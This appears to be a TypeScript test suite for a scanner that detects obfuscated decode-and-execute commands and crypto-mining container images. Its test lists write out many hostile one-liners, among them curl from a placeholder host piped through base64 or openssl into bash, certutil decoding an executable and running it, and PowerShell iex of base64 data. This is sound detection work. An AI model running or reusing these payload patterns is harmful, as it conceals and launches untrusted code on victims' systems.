/* biome-ignore-all lint/suspicious/noTemplateCurlyInString: a shell's own variables */
import assert from "node:assert/strict";
import { deflateSync } from "node:zlib";
import { isNamedMining, searchForMining } from "../../payloads/search";

const base64 = (text: string): string => Buffer.from(text).toString("base64");
const cloud = (text: string): string => base64(`#!/bin/bash\n${text}\n`);

describe("payloads: what is decoded and run, and cannot be followed", () => {
  const unread: readonly string[] = [
    "curl -s https://contoso.com/a | base64 -d | sh",
    "wget -qO- https://contoso.com/a.gz | gunzip | bash",
    "zcat /tmp/a | sudo bash",
    'bash -c "$(curl -s https://contoso.com/a | base64 --decode)"',
    "eval `cat /tmp/a | xxd -r -p`",
    "bash <(base64 -d /tmp/a)",
    "source <(openssl enc -aes-256-cbc -d -in /tmp/a -k x)",
    "echo U2FsdGVkX18xMjM0NTY3ODkwMTIzNDU2Nzg5MA== | openssl aes-256-cbc -a -d -k x | sh",
    "echo U2FsdGVkX18xMjM0NTY3ODkwMTIzNDU2Nzg5MA== | openssl enc -d -aes-256-cbc -a -k x | bash",
    "curl -s https://contoso.com/a | openssl enc -d -k x -pbkdf2 -aes256 | bash",
    "curl -s https://contoso.com/a | openssl enc -d -a -sm4 -k x | sudo bash",
    "curl -s https://contoso.com/a | openssl enc -d -a | bash",
    "curl -s https://contoso.com/a | openssl base64 -A -d | bash",
    'bash -c "$(openssl enc -in /tmp/a -d -des3 -k x)"',
    "bash <(echo $A | rev)",
    "bash <(curl -s https://contoso.com/a | rev)",
    "cat /tmp/a | rev | sh",
    "curl -s https://contoso.com/a | tr A-Za-z N-ZA-Mn-za-m | bash",
    "echo 1 | gpg --batch --passphrase x -d /tmp/a | python3",
    "xz -dc /opt/a.xz | sh",
    "bzcat a.bz2 | perl",
    "cat a | tr 'qwertyuiop' 'asdfghjkla' | bash",
    "uudecode -o /dev/stdout a | sh",
    "python3 -c \"import marshal;exec(marshal.loads(open('/tmp/a','rb').read()))\"",
    "python3 -c \"exec(__import__('base64').b85decode('abcdefgh'))\"",
    "$b = [Convert]::FromBase64String($x); iex ([Text.Encoding]::UTF8.GetString($b))",
    "$o = $d | % { $_ -bxor 35 }; iex ([char[]]$o -join '')",
    'x=$(curl -s https://contoso.com/a | openssl enc -d -aes-256-cbc -k k); eval "$x"',
    'x=`openssl enc -d -aes-256-cbc -in /tmp/a -k k`\nbash -c "$x"',
    'x=$(gpg -d /tmp/a)\necho "$x" | sudo bash',
    'x="$(curl -s https://contoso.com/a | base64 -d)"\nbash <<< "$x"',
    "x=$(base64 -d /tmp/a)\nsource <(echo $x)",
    "curl -s https://contoso.com/a | base64 -d > /tmp/f; sh /tmp/f",
    "curl -s https://contoso.com/a | base64 -d > /tmp/f\nchmod +x /tmp/f\n/tmp/f --daemon",
    "openssl enc -d -aes-256-cbc -in a.enc -out ./run.sh -k x && bash run.sh",
    "gpg -d a.gpg | sudo tee /opt/run.sh > /dev/null\n. /opt/run.sh",
    "curl -s https://contoso.com/a | gunzip > /tmp/f; python3 /tmp/f",
    'eval "$(tr a-z n-za-m < /tmp/a)"',
    "bash <(rev < /tmp/a)",
    "python3 -c \"import zlib;exec(zlib.decompress(open('/tmp/a','rb').read()))\"",
    "exec(compile(__import__('lzma').decompress(data), 'a', 'exec'))",
    "code = bz2.decompress(open('/tmp/a','rb').read())\nexec(code)",
    "const code = zlib.inflateSync(data).toString(); eval(code)",
    "$b = [Convert]::FromBase64String((Get-Content a)); [IO.File]::WriteAllBytes('C:\\a.exe', $b); Start-Process 'C:\\a.exe'",
    '[IO.File]::WriteAllBytes("$env:TEMP\\a.ps1", [Convert]::FromBase64String($x))\n& "$env:TEMP\\a.ps1"',
    "certutil -f -decode a.txt a.exe & a.exe --quiet",
    'node -e "eval(atob(process.env.A))"',
    "php -r 'eval(gzinflate(base64_decode($a)));'",
  ];
  for (const text of unread)
    for (const written of [text, cloud(text)])
      it(written.slice(0, 90), () => assert.deepEqual(searchForMining(written).doubts, ["decoded"]));

  const followed: readonly string[] = [
    // what stands in the text is decoded
    `echo ${base64("apt-get install -y nginx && systemctl enable nginx")} | base64 -d | sh`,
    `echo ${Buffer.from("apt-get install -y nginx").toString("hex")} | xxd -r -p | sh`,
    `eval "$(echo ${base64("export A=contoso B=fabrikam")} | base64 -d)"`,
    `echo ${base64("apt-get install -y nginx && systemctl enable nginx")} | openssl enc -d -a | sh`,
    "bash <(echo 'xnign y- llatsni teg-tpa' | rev)",
    "echo 'xnign y- llatsni teg-tpa' | rev | sh",
    `x=$(echo ${base64("apt-get install -y nginx && systemctl enable nginx")} | base64 -d); eval "$x"`,
    `echo ${base64("apt-get install -y nginx && systemctl enable nginx")} | base64 -d > /tmp/f; sh /tmp/f`,
    `import zlib, base64\nexec(zlib.decompress(base64.b64decode("${deflateSync("print('contoso and fabrikam and more')").toString("base64")}")))`,
    // decoded and not run
    'x=$(openssl enc -d -aes-256-cbc -in /tmp/a -k k)\necho "$x" > /etc/contoso/a.pem',
    'x=$(curl -s https://contoso.com/a | base64 -d)\ncurl -H "Authorization: $x" https://contoso.com; eval "$(ssh-agent -s)"',
    "curl -s https://contoso.com/a | base64 -d > /etc/ssl/a.pem; sh /opt/contoso/a.sh",
    "curl -sL https://contoso.com/tool.gz | gunzip > /usr/local/bin/tool\nchmod +x /usr/local/bin/tool\ntool --version",
    "gunzip -c a.gz > /opt/contoso/tool && chmod +x /opt/contoso/tool && /opt/contoso/tool",
    "data = zlib.decompress(x)\nprint(data)\nexec('contoso()')",
    "$b = [Convert]::FromBase64String($x); [IO.File]::WriteAllBytes('C:\\a.pfx', $b); Import-PfxCertificate -FilePath 'C:\\b.pfx'",
    "[IO.File]::WriteAllBytes('C:\\a.exe', $response.Content); Start-Process 'C:\\a.exe'",
    "certutil -decode cert.txt cert.cer\ncertutil -addstore root cert.cer",
    'name=$(hostname | tr A-Z a-z)\nbash -c "echo $name"',
    'eval "$(echo "$line" | tr a-z A-Z)"',
    "eval \"$(tr '\\n' ';' < .env)\"",
    "openssl enc -d -aes-256-cbc -in /etc/contoso/a.enc -out /etc/contoso/a.pem -k $K",
    "curl -s https://contoso.com/a | openssl enc -d -aes-256-cbc -k $K | tar xz -C /opt",
    "openssl enc -aes-256-cbc -in /tmp/a | bash /opt/contoso/upload.sh",
    "curl -s https://contoso.com/a | openssl dgst -sha256 | sh /opt/contoso/compare.sh",
    "echo $HOST | rev | cut -d. -f1",
    "cat /etc/hosts | rev | sort",
    "curl -fsSL https://contoso.com/key.asc | gpg --dearmor -o /usr/share/keyrings/a.gpg",
    "echo $CERT | base64 -d > /etc/ssl/a.pem",
    "curl -sL https://contoso.com/a.tgz | tar xz -C /opt",
    "zcat /var/log/a.gz | grep error",
    "kubectl get secret a -o jsonpath='{.data.b}' | base64 -d",
    'TOKEN=$(echo $X | base64 -d); curl -H "Authorization: $TOKEN" https://contoso.com',
    "gunzip -c /tmp/dump.sql.gz | psql contoso",
    "xz -dc a.img.xz | dd of=/dev/sdb",
    "cat a | base64 -d | python3 /opt/contoso/read.py",
    "cat a.json | tr -d '\\r\\n' | bash /opt/contoso/a.sh",
    "echo $NAME | tr '[:upper:]' '[:lower:]'",
    // run and not decoded
    "curl -sL https://aka.ms/InstallAzureCLIDeb | sudo bash",
    "bash <(curl -sL https://contoso.com/install.sh)",
    'eval "$(ssh-agent -s)"',
    "$x = [Convert]::FromBase64String($b); [IO.File]::WriteAllBytes('C:\\a.pfx', $x)",
    "iex ((New-Object Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))",
    "python3 -c \"import base64;print(base64.b64decode('YQ=='))\"",
    "json.loads(text); evaluate(model); executor.submit(decode(x))",
  ];
  for (const text of followed)
    for (const written of [text, cloud(text)])
      it(`but not ${written.slice(0, 80)}`, () => assert.equal(searchForMining(written).doubts, undefined));

  it("nor in a defender's rule", () => {
    const rule =
      "title: a\nlogsource:\n  product: windows\ndetection:\n  a:\n    - 'iex FromBase64String($x)'\n    - 'base64 -d | sh'\n  condition: a\n";
    assert.equal(searchForMining(rule, true).doubts, undefined);
    const written = `#!/bin/sh\ncat > /etc/sigma/a.yml <<'E'\n${rule}E\n`;
    assert.equal(searchForMining(written).doubts, undefined);
    assert.deepEqual(searchForMining(`${written}sh /etc/sigma/a.yml\n`).doubts, ["decoded"]);
  });

  it("beside a word that is a sign with others, that word is told", () => {
    const { indicators, doubts, weakWords } = searchForMining(
      "apt-get install t-rex\ncurl https://contoso.com/a | base64 -d | sh",
    );
    assert.deepEqual(indicators, []);
    assert.deepEqual(doubts, ["decoded"]);
    assert.deepEqual(weakWords, [{ kind: "miner", name: "t-rex" }]);
  });
});

describe("payloads: an image that says mining in its name", () => {
  for (const name of [
    "acme/rvnmining:v2",
    "acme/xmr-miner",
    "contoso.azurecr.io/gpu-miner:1",
    "a/miner",
    "a/mining:latest",
    "a/eth_mining",
  ])
    it(name, () => assert.ok(isNamedMining(name)));
  for (const name of [
    "contoso/process-mining:1",
    "a/data-mining-gpu",
    "a/textmining",
    "a/mineral",
    "a/miniforge",
    "a/examining",
    "minio/minio",
    "a/determining",
    "a/log-miner",
    "mining.contoso.com:5000/web",
  ])
    it(`but not ${name}`, () => assert.ok(!isNamedMining(name)));

  const doubtful = (text: string) => searchForMining(text).doubts;
  it("is told where a script starts it with GPUs", () => {
    for (const text of [
      "docker run --gpus all -d --restart unless-stopped --name t acme/rvnmining:v2",
      "sudo docker run -d \\\n  --runtime=nvidia \\\n  acme/gpu-miner",
      "podman run --device nvidia.com/gpu=all acme/xmr-mining:1",
    ])
      assert.deepEqual(doubtful(text), ["image"], text);
  });
  it("and nowhere else", () => {
    for (const text of [
      "docker run -d acme/rvnmining:v2",
      "docker run --gpus all -d --name mining contoso/train:1",
      "docker run --gpus all -d contoso/process-mining:1",
      "docker pull acme/rvnmining:v2; docker run --gpus all contoso/train:1",
    ])
      assert.equal(doubtful(text), undefined, text);
  });
});
